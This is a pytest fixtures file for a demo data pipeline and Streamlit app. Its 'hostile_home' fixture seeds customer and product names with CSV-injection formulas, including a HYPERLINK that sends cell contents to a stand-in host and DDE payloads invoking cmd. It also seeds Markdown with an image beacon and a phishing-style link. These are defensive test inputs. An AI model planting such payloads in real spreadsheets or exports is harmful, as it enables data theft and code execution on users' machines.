"""Shared fixtures: a small demo lake built once per test session."""

from __future__ import annotations

import os
from pathlib import Path

import polars as pl
import pytest

from models.core import clock
from models.demo.generator import generate
from models.engines import adhoc
from models.pipeline import build
from models.pipeline.ingest import ingest_paths
from tests.pinned import TODAY

SCALE = 0.05

# Every build and demo of the session, in this process and in the apps and commands it starts,
# takes TODAY as today (models.core.clock), never the system clock.
os.environ[clock.ENV] = TODAY.isoformat()
# Builds in tests run the same post-build hooks as in the app and the CLI.
adhoc.register_build_hook()


@pytest.fixture(scope="session", autouse=True)
def app_served_on_loopback():
    """AppTest runs app.py in this process, where Streamlit's server.address is unset (as for a
    server on every interface), under which app.py refuses the default dev sign-in. Tests stand
    for `make run`, which serves on 127.0.0.1. (Tests of other addresses set it themselves.)"""
    from streamlit import config

    before = config.get_option("server.address")
    config.set_option("server.address", "127.0.0.1")
    yield
    config.set_option("server.address", before)


@pytest.fixture(scope="session")
def built_home(tmp_path_factory) -> Path:
    """A data folder with a clean scale-0.05 demo lake and one good build (with unit tests)."""
    home = tmp_path_factory.mktemp("home")
    generate(home / "demo", scale=SCALE, seed=7, today=TODAY)
    ingest_paths([home / "demo"], base=home)
    result = build.run_build(home, unit_tests=True)
    assert result.ok, result.failures
    return home


@pytest.fixture(scope="session")
def dirty_home(tmp_path_factory) -> Path:
    """A data folder with a dirty scale-0.05 demo lake (every row-level fault) and one build."""
    home = tmp_path_factory.mktemp("dirty")
    generate(home / "demo", scale=SCALE, seed=11, dirty=True, today=TODAY)
    ingest_paths([home / "demo"], base=home)
    result = build.run_build(home)
    assert result.ok, result.failures
    return home


# Names a hostile source file may carry: spreadsheet formulas (CSV injection) and Markdown that
# would fetch an image and show a link (tests/test_hostile_data.py).
FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1",
                 "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3")
MARKDOWN_NAME = "![x](http://127.0.0.1:47999/pixel.png) Evil shop"
MARKDOWN_ADDRESS = "[Pay your invoice here](http://evil.example/pay)"


@pytest.fixture(scope="session")
def hostile_home(tmp_path_factory) -> Path:
    """A data folder like built_home whose customer and product names are attacks: the first
    customer has MARKDOWN_NAME at MARKDOWN_ADDRESS, every other customer and every product is
    named by FORMULA_NAMES in turn (the ids stay as generated)."""
    home = tmp_path_factory.mktemp("hostile")
    summary = generate(home / "demo", scale=SCALE, seed=7, today=TODAY)
    customers = pl.read_csv(summary.files["customers"], infer_schema=False)
    names = [MARKDOWN_NAME, *(FORMULA_NAMES[i % len(FORMULA_NAMES)]
                              for i in range(customers.height - 1))]
    customers = customers.with_columns(
        pl.Series("name", names),
        pl.when(pl.int_range(pl.len()) == 0).then(pl.lit(MARKDOWN_ADDRESS))
        .otherwise(pl.col("address")).alias("address"))
    customers.write_csv(summary.files["customers"])
    products = pl.read_csv(summary.files["products"], infer_schema=False)
    products.with_columns(pl.Series("name", [FORMULA_NAMES[i % len(FORMULA_NAMES)]
                                             for i in range(products.height)])
                          ).write_csv(summary.files["products"])
    ingest_paths([home / "demo"], base=home)
    result = build.run_build(home)
    assert result.ok, result.failures
    return home


@pytest.fixture(scope="session")
def served_app(built_home):
    """The app served by streamlit on the built demo folder (read-only use: do not rebuild or
    upload through it; copy the folder for that, as tests/test_browser.py does)."""
    from tests.browser_util import serve_app

    with serve_app(built_home) as url:
        yield url


@pytest.fixture(scope="session")
def browser_session():
    """One headless chromium for the session's browser tests."""
    from tests.browser_util import chromium

    with chromium() as browser:
        yield browser


KNOWN_ANSWER = Path(__file__).resolve().parent.parent / "data" / "fixtures" / "known_answer"


@pytest.fixture(scope="session")
def known_answer_home(tmp_path_factory) -> Path:
    """SPEC 3's known answer (data/fixtures/known_answer): 20 customers with 2,500,000 of sales
    in the tier window (half in February, half in March 2026), the top 4 holding 80 % and the
    next 6 holding 15 %. Built as of 2026-03-31 (March is the last complete month) with
    tier_s_share 0, so that March grades 4 A, 6 B and 10 C."""
    home = tmp_path_factory.mktemp("known_answer")
    ingest_paths(sorted(KNOWN_ANSWER.glob("*.csv")), base=home)
    result = build.run_build(home, dbt_vars={"as_of_date": "2026-03-31", "tier_s_share": 0})
    assert result.ok, result.failures
    return home
